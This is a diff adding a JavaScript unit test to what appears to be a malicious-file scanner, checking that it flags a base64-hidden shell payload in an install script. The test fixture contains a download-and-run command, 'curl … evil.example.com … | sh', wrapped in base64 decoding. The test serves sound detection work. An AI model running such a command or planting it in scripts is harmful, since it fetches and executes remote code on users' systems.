@@ -102,3 +102,19 @@ for (const name of ['fsevents', '@parcel/watcher-darwin-arm64']) {
     return undefined
   })
 }
+
+test('file report: a script is read where its name is given', () => {
+  const hidden = Buffer.from('curl -s https://evil.example.com/x | sh').toString('base64')
+  const bytes = Buffer.from(`#!/bin/sh\necho ${hidden} | base64 -d | sh\n`)
+  const options = { nowMs: NOW_MS, roots: ROOTS }
+  equal(reportFile(bytes, options).script, undefined)
+  const { script } = reportFile(bytes, { ...options, name: 'install' })
+  deepEqual([script?.language, script?.interpreter], ['shell', '/bin/sh'])
+  deepEqual(
+    script?.hidden.map(({ by, parent, text }) => [by, parent, text]),
+    [['base64', 0, true]],
+  )
+  ok(script?.features.some(({ feature, layer }) => feature === 'download_and_run' && layer === 1))
+  deepEqual(script?.indicators.domains, ['evil.example.com'])
+  deepEqual(JSON.parse(JSON.stringify(script)), script)
+})
